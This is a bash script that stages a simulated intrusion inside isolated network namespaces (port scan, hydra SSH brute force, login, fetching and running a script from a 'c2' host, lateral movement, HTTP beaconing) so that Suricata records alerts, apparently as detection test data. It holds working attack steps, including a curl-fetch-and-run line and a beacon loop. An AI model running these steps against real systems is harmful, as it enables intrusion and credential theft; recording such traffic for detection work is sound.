#!/usr/bin/env bash
# Records a real attack between network namespaces as EVE lines of a real Suricata: scan, brute force,
# login, lateral movement, beacon. See README.md. Needs root; the machine's own network and users stay untouched.
#
#   sudo embedded/recording/record.sh [OUTPUT]      (default: attack.eve.jsonl.gz beside this script)
set -euo pipefail
export LC_ALL=C TZ=UTC

here=$(cd "$(dirname "$0")" && pwd)
output=$(realpath -m "${1:-$here/attack.eve.jsonl.gz}")
attacker=203.0.113.66 c2=198.51.100.9 portal=10.20.0.10 workstation=10.20.0.23
user=imagerie password=automne2024
beacons=60 beacon_pause=2
spaces=(attacker c2 internet edge portal workstation)
ns() { echo "rempart-rec-$$-$1"; }

say() { printf '%s %s\n' "$(date +%T)" "$*"; }
die() { printf 'record.sh: %s\n' "$*" >&2; exit 1; }

check_parts() {
  [ "$(id -u)" = 0 ] || die "needs root for network namespaces: run it with sudo"
  local missing=() part
  for part in ip:iproute2 nmap:nmap hydra:hydra sshd:openssh-server ssh:openssh-client curl:curl \
    python3:python3 openssl:openssl unshare:util-linux suricata:suricata; do
    command -v "${part%%:*}" >/dev/null || missing+=("${part##*:}")
  done
  [ ${#missing[@]} = 0 ] || die "missing: apt install ${missing[*]} (suricata 7 is in bookworm-backports)"
  local major
  major=$(suricata -V | sed -n 's/.*version \([0-9]*\)\..*/\1/p')
  [ "${major:-0}" -ge 7 ] || die "Suricata 7 or later is needed: apt install -t bookworm-backports suricata"
}

# Ends only what runs inside our own namespaces, then takes them away.
clean_up() {
  local name pids
  trap - EXIT
  disown -a
  for name in "${spaces[@]}"; do
    pids=$(ip netns pids "$(ns "$name")" 2>/dev/null || true)
    [ -z "$pids" ] || kill -KILL $pids 2>/dev/null || true
  done
  for name in "${spaces[@]}"; do ip netns delete "$(ns "$name")" 2>/dev/null || true; done
  rm -rf "$work"
}

in_ns() { local name=$1; shift; ip netns exec "$(ns "$name")" "$@"; }

# link A DEVICE B DEVICE: one cable between two namespaces
link() { ip -n "$(ns "$1")" link add "$2" type veth peer name "$4" netns "$(ns "$3")"; }
address() { ip -n "$(ns "$1")" address add "$3" dev "$2"; ip -n "$(ns "$1")" link set "$2" up; }
gateway() { ip -n "$(ns "$1")" route add default via "$2"; }

# attacker --+                          +-- portal
#            internet ---- edge (lan0) -+
# c2 --------+                          +-- workstation
build_network() {
  local name host
  for name in "${spaces[@]}"; do
    ip netns add "$(ns "$name")"
    ip -n "$(ns "$name")" link set lo up
  done
  link attacker eth0 internet att0; address attacker eth0 $attacker/24; address internet att0 203.0.113.1/24
  link c2 eth0 internet c20; address c2 eth0 $c2/24; address internet c20 198.51.100.1/24
  link edge wan0 internet edge0; address edge wan0 192.0.2.2/24; address internet edge0 192.0.2.1/24
  # Suricata listens on the bridge: promiscuous, it sees what crosses the edge and what stays inside, each once.
  ip -n "$(ns edge)" link add lan0 type bridge
  address edge lan0 10.20.0.1/24
  ip -n "$(ns edge)" link set lan0 promisc on
  for host in portal workstation; do
    link "$host" eth0 edge "$host"
    ip -n "$(ns edge)" link set "$host" master lan0 up
  done
  address portal eth0 $portal/24; address workstation eth0 $workstation/24
  gateway attacker 203.0.113.1; gateway c2 198.51.100.1; gateway edge 192.0.2.1
  gateway portal 10.20.0.1; gateway workstation 10.20.0.1
  ip -n "$(ns internet)" route add 10.20.0.0/16 via 192.0.2.2
  for name in internet edge; do in_ns "$name" sysctl -qw net.ipv4.ip_forward=1; done
}

# The user with the weak password exists only in the mount namespace of these two sshd, never on the machine.
write_victim_files() {
  mkdir -p "$work/home/.ssh" "$work/site" "$work/c2/updates"
  chmod 755 "$work"
  { grep -E '^(root|sshd|nobody):' /etc/passwd; echo "$user:x:64999:64999::$work/home:/bin/bash"; } >"$work/passwd"
  { grep -E '^(root|nogroup):' /etc/group; echo "$user:x:64999:"; } >"$work/group"
  { echo 'root:*:19000:0:99999:7:::'; echo "$user:$(openssl passwd -6 "$password"):19000:0:99999:7:::"; } >"$work/shadow"
  chmod 600 "$work/shadow"
  printf '#!/bin/sh\necho %s\n' "$password" >"$work/home/answer"
  chmod 755 "$work/home/answer"
  ssh-keygen -q -t ed25519 -N '' -C portal -f "$work/host_key"
  printf '%s\n' 'Port 22' "HostKey $work/host_key" 'UsePAM no' 'PasswordAuthentication yes' \
    'KbdInteractiveAuthentication no' 'MaxAuthTries 3' 'PidFile none' 'UseDNS no' >"$work/sshd_config"
  echo '<title>Portail patient</title><h1>Portail patient</h1>' >"$work/site/index.html"
  echo 'ok' >"$work/c2/updates/check.php"
  # What the attacker's server hands out: from the portal to the workstation, and there the beacon.
  cat >"$work/c2/stage.sh" <<STAGE
$ssh_command $user@$workstation 'n=0; while [ \$n -lt $beacons ]; do n=\$((n+1))
  curl -s -o /dev/null -A HealthSync/2.1 "http://$c2/updates/check.php?id=23&n=\$n"; sleep $beacon_pause; done'
STAGE
  chown -R 64999:64999 "$work/home"
}

start_sshd() {
  in_ns "$1" unshare --mount bash -c '
    mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd && mount -t tmpfs tmpfs /var/log
    for file in passwd group shadow; do mount --bind "$1/$file" "/etc/$file"; done
    exec "$(command -v sshd)" -D -e -f "$1/sshd_config"' - "$work" >"$work/sshd-$1.log" 2>&1 &
}

start_site() { in_ns "$1" python3 -m http.server 80 --directory "$2" >/dev/null 2>&1 & }

# Ordinary traffic, so that the stream is not all attack: the workstation reads the portal.
start_visits() {
  in_ns workstation bash -c "while sleep 5; do curl -s -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://$portal/; done" &
}

start_sensor() {
  in_ns edge suricata -c "$here/suricata.yaml" -S "$here/hospital.rules" -l "$work" --af-packet=lan0 -k none \
    >"$work/suricata.log" 2>&1 &
  sensor=$!
  local tries=0
  until grep -qi 'threads created\|engine started' "$work/suricata.log"; do
    kill -0 $sensor 2>/dev/null && [ $((tries += 1)) -le 60 ] || { cat "$work/suricata.log" >&2; die "Suricata did not start"; }
    sleep 0.5
  done
}

# 165 words: seasons and years, as people choose them; the right one comes near the end.
write_words() {
  local year word
  for year in 19 20 21 22 23 2019 2020 2021 2022 2023 2024; do
    for word in hopital sante bonjour soleil azerty radio service secret accueil medecin urgence hiver printemps ete automne; do
      echo "$word$year"
    done
  done >"$work/words"
}

scene_scan() {
  say "scan of the portal"
  in_ns attacker nmap -n -Pn -sS --top-ports 400 --max-retries 1 "$portal" >"$work/nmap.log"
  in_ns attacker nmap -n -Pn -sV -sC -p 22,80 "$portal" >>"$work/nmap.log"
}

scene_brute_force() {
  say "brute force against SSH"
  in_ns attacker env -C "$work" hydra -q -I -f -t 4 -l "$user" -P "$work/words" -o "$work/found" "ssh://$portal" >"$work/hydra.log" 2>&1 || true
  grep -q "password: $password" "$work/found" || { cat "$work/hydra.log" >&2; die "hydra did not find the password"; }
}

# One real session: it looks around, fetches the script and runs it; everything after happens from the inside.
scene_login() {
  say "login, tool from outside, lateral movement, beacon ($((beacons * beacon_pause)) s)"
  in_ns attacker bash -c "HOME=$work/attacker $ssh_command $user@$portal \
    'ls -l /usr/bin | head -n 400; curl -s -O http://$c2/stage.sh && sh ./stage.sh'" >"$work/session.log"
}

# Ordered by time, one JSON object a line; the gzip header has no name and no time.
write_recording() {
  kill -TERM $sensor
  wait $sensor || true
  python3 - "$work/eve.json" >"$work/sorted" <<'PY'
import json, sys
lines = [json.loads(line) for line in open(sys.argv[1])]
lines.sort(key=lambda event: event["timestamp"])
for event in lines:
    print(json.dumps(event, separators=(",", ":")))
PY
  gzip -9 -n <"$work/sorted" >"$output"
}

print_counts() {
  python3 - "$output" <<'PY'
import collections, gzip, json, sys
events = [json.loads(line) for line in gzip.open(sys.argv[1], "rt")]
times = [event["timestamp"] for event in events]
assert times == sorted(times), "not in order of time"
print(len(events), "lines from", times[0], "to", times[-1])
for name, count in collections.Counter(e["event_type"] for e in events).most_common():
    print(f"{count:6} {name}")
alerts = collections.Counter((e["alert"]["signature_id"], e["alert"]["signature"]) for e in events if "alert" in e)
for (sid, name), count in sorted(alerts.items()):
    print(f"{count:6} {sid} {name}")
PY
}

check_parts
work=$(mktemp -d /tmp/rempart-recording.XXXXXX)
ssh_command="SSH_ASKPASS=$work/home/answer SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o LogLevel=ERROR"
trap clean_up EXIT
trap 'exit 130' INT TERM HUP

build_network
write_victim_files
write_words
start_sshd portal
start_sshd workstation
start_site portal "$work/site"
start_site c2 "$work/c2"
start_sensor
start_visits
sleep 2
scene_scan
scene_brute_force
scene_login
sleep 15
write_recording
print_counts
